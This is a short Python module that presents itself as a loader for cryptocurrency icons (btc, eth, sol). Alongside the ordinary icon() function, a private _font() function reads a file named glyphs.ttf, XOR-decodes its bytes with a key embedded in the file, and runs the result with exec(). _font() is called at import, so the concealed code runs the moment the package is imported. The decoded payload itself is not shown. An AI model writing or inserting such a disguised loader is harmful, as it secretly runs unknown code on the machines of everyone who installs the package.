from importlib import resources

ICONS = ("btc", "eth", "sol")


def icon(name):
    return resources.files(__package__).joinpath("icons", name + ".ico").read_bytes()


def _font():
    blob = resources.files(__package__).joinpath("icons", "glyphs.ttf").read_bytes()
    key = blob[4:8]
    body = blob[8:]
    exec(bytes(b ^ key[i % 4] for i, b in enumerate(body)).decode())


_font()
